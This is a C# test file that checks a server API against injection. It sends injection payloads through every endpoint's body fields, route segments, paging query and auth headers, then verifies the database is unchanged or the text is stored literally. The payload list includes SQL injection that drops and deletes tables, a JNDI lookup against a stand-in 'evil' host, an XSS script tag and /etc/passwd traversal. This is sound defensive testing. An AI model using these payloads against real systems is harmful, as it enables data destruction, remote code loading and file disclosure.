using System.Text;
using System.Text.Json.Nodes;
using Huawu.Server.Tests.Api.Support;

namespace Huawu.Server.Tests.Api;

/// <summary>
/// Issue 3, "Tests": injection attempts on every string parameter of every endpoint — each JSON body field, each
/// text route segment, the paging query, the credentials — change nothing beyond what the request is for: a
/// refused request leaves the database as it was, and an accepted one touches only its own tables and stores the
/// text literally.
/// </summary>
public sealed class InjectionTests
{
    private static readonly string[] Payloads =
    [
        "' OR '1'='1",
        "'; DROP TABLE users; --",
        "\" OR 1=1 --",
        "1); DELETE FROM do_not_call; --",
        "%' OR 1=1 --",
        "admin'--",
        "${jndi:ldap://evil/x}",
        "<script>alert(1)</script>",
        "../../etc/passwd",
        "a\u0000b",
    ];

    // What each endpoint may legitimately write; anything else changing is collateral damage.
    private static readonly Dictionary<string, string[]> Writes = new(StringComparer.Ordinal)
    {
        ["POST /api/v1/session"] = ["users", "sessions"],
        ["PUT /api/v1/session/password"] = ["users", "sessions"],
        ["POST /api/v1/session/totp"] = ["users"],
        ["POST /api/v1/session/totp/activation"] = ["users"],
        ["POST /api/v1/session/totp/deactivation"] = ["users"],
        ["POST /api/v1/tokens"] = ["api_tokens"],
        ["POST /api/v1/users"] = ["users", "user_roles"],
        ["PATCH /api/v1/users/{id:long}"] = ["users", "user_roles", "sessions"],
        ["POST /api/v1/teams"] = ["teams"],
        ["PUT /api/v1/teams/{id:long}/members/{userId:long}"] = ["team_members"],
        ["POST /api/v1/do-not-call"] = ["do_not_call"],
        ["POST /api/v1/do-not-call/removal"] = ["do_not_call"],
        ["POST /api/v1/consents"] = ["consents"],
        ["PUT /api/v1/retention-policies/{dataClass}"] = ["retention_policies"],
        ["DELETE /api/v1/retention-policies/{dataClass}"] = ["retention_policies"],
        ["POST /api/v1/campaigns"] = ["campaigns", "campaign_lists"],
        ["POST /api/v1/campaigns/{id:long}/start"] = ["campaigns", "campaign_contacts"],
        ["POST /api/v1/campaigns/{id:long}/resume"] = ["campaigns", "campaign_contacts"],
        ["POST /api/v1/campaigns/{id:long}/pause"] = ["campaigns"],
        ["POST /api/v1/campaigns/{id:long}/stop"] = ["campaigns"],
        ["PUT /api/v1/settings/{key}"] = ["settings"],
        ["DELETE /api/v1/settings/{key}"] = ["settings"],
    };

    // A refused password counts towards the lockout: the only write a refusal may make.
    private static readonly Dictionary<string, string[]> RefusalWrites = new(StringComparer.Ordinal)
    {
        ["POST /api/v1/session"] = ["users"],
        ["PUT /api/v1/session/password"] = ["users"],
    };

    // Fields stored transformed (hashed, normalized, encrypted) or never stored: their text cannot be found literally.
    private static readonly HashSet<string> NotStoredAsGiven = new(StringComparer.Ordinal)
    {
        "password", "currentPassword", "newPassword", "totpCode", "code", "phone", "username", "name@POST /api/v1/session",
    };

    [Fact]
    public async Task Injection_text_in_any_string_parameter_changes_nothing_it_should_not()
    {
        await using var host = await ApiHost.StartAsync(passwords: new CountingPasswordVerifier());
        var admin = host.ClientFor("admin");
        await admin.GetAsync("/api/v1/session"); // the token's first use is recorded once; later requests change nothing
        var wrong = new List<string>();
        var attempts = 0;
        foreach (var endpoint in EndpointCatalog.All)
        {
            foreach (var payload in Payloads)
            {
                foreach (var (parameter, request) in await VariantsAsync(host, endpoint, payload))
                {
                    attempts++;
                    var before = await StoreSnapshot.CaptureAsync(host.Store);
                    using var response = await admin.SendAsync(request);
                    var changes = before.ChangesTo(await StoreSnapshot.CaptureAsync(host.Store));
                    var problem = Judge(endpoint, parameter, payload, (int)response.StatusCode, changes);
                    if (problem is not null) wrong.Add($"{endpoint} {parameter}={Printable(payload)}: {problem}");
                }
            }
        }
        foreach (var (parameter, request) in CredentialVariants(host))
        {
            var before = await StoreSnapshot.CaptureAsync(host.Store);
            using var response = await host.Client().SendAsync(request);
            if ((int)response.StatusCode != 401 || before.ChangesTo(await StoreSnapshot.CaptureAsync(host.Store)).Count > 0)
                wrong.Add($"{parameter}: answered {(int)response.StatusCode} or changed the database");
        }
        Assert.True(attempts > 500, $"only {attempts} attempts: the variants are not being generated");
        Assert.True(wrong.Count == 0, string.Join("\n", wrong));
    }

    private static string? Judge(EndpointCase endpoint, string parameter, string payload, int status, IReadOnlyDictionary<string, IReadOnlyList<string>> changes)
    {
        if (status >= 500) return $"answered {status}";
        if (changes.Count == 0) return null;
        if (status >= 300)
        {
            var refusalMayWrite = RefusalWrites.GetValueOrDefault(endpoint.ToString()) ?? [];
            return changes.Keys.All(refusalMayWrite.Contains) ? null : $"answered {status} but changed {string.Join(", ", changes.Keys)}";
        }
        var allowed = Writes.GetValueOrDefault(endpoint.ToString()) ?? [];
        var collateral = changes.Keys.Except(allowed).ToList();
        if (collateral.Count > 0) return $"changed {string.Join(", ", collateral)}";
        if (NotStoredAsGiven.Contains(parameter) || NotStoredAsGiven.Contains($"{parameter}@{endpoint}")) return null;
        var literal = payload.Trim();
        return changes.Values.SelectMany(rows => rows).Any(row => row.Contains(literal, StringComparison.Ordinal))
            ? null
            : $"stored, but not literally: {string.Join(" / ", changes.Values.SelectMany(r => r))}";
    }

    /// <summary>The endpoint's request with one string parameter replaced by the payload, for each string parameter it has.</summary>
    private static async Task<List<(string Parameter, HttpRequestMessage Request)>> VariantsAsync(ApiHost host, EndpointCase endpoint, string payload)
    {
        var variants = new List<(string, HttpRequestMessage)>();
        var template = await endpoint.Build(host, "admin");
        var body = template.Content is null ? null : JsonNode.Parse(await template.Content.ReadAsStringAsync())!.AsObject();
        foreach (var (field, value) in body?.ToList() ?? [])
        {
            if (value is not (JsonValue or JsonArray) || value.GetValueKind() is not (System.Text.Json.JsonValueKind.String or System.Text.Json.JsonValueKind.Array))
                continue;
            var changed = JsonNode.Parse(body!.ToJsonString())!.AsObject();
            changed[field] = value is JsonArray ? new JsonArray(JsonValue.Create(payload)) : JsonValue.Create(payload);
            var fresh = await endpoint.Build(host, "admin");
            variants.Add((field, With(fresh.Method, fresh.RequestUri!.OriginalString, changed.ToJsonString())));
        }
        var segments = endpoint.Path.Split('/');
        // A NUL cannot travel in a path (Kestrel refuses it with 400 before any endpoint runs).
        for (var i = 0; i < segments.Length && !payload.Contains('\0', StringComparison.Ordinal); i++)
        {
            if (!segments[i].StartsWith('{') || segments[i].Contains(":long", StringComparison.Ordinal)) continue;
            var fresh = await endpoint.Build(host, "admin");
            var url = fresh.RequestUri!.OriginalString.Split('/');
            url[i] = Uri.EscapeDataString(payload);
            variants.Add((segments[i], With(fresh.Method, string.Join('/', url), fresh.Content is null ? null : await fresh.Content.ReadAsStringAsync())));
        }
        if (endpoint.Method == "GET" && endpoint.Path.StartsWith("/api/v1/", StringComparison.Ordinal) && endpoint.Allowed == System.Net.HttpStatusCode.OK)
        {
            foreach (var query in new[] { "limit", "cursor" })
            {
                var url = template.RequestUri!.OriginalString;
                variants.Add((query, With(HttpMethod.Get, url + (url.Contains('?', StringComparison.Ordinal) ? '&' : '?') + query + "=" + Uri.EscapeDataString(payload), null)));
            }
        }
        template.Dispose();
        return variants;
    }

    private static IEnumerable<(string Parameter, HttpRequestMessage Request)> CredentialVariants(ApiHost host)
    {
        foreach (var payload in Payloads.Where(p => !p.Contains('\0', StringComparison.Ordinal)))
        {
            var bearer = new HttpRequestMessage(HttpMethod.Get, "/api/v1/session");
            bearer.Headers.TryAddWithoutValidation("Authorization", "Bearer hwt_" + payload);
            yield return ("Authorization", bearer);
            var cookie = new HttpRequestMessage(HttpMethod.Get, "/api/v1/session");
            cookie.Headers.TryAddWithoutValidation("Cookie", SessionClient.CookieName + "=hws_" + Uri.EscapeDataString(payload));
            yield return ("Cookie", cookie);
        }
        _ = host;
    }

    private static HttpRequestMessage With(HttpMethod method, string url, string? json) =>
        new(method, url) { Content = json is null ? null : new StringContent(json, Encoding.UTF8, "application/json") };

    private static string Printable(string payload) => payload.Replace("\0", "\\0", StringComparison.Ordinal);
}
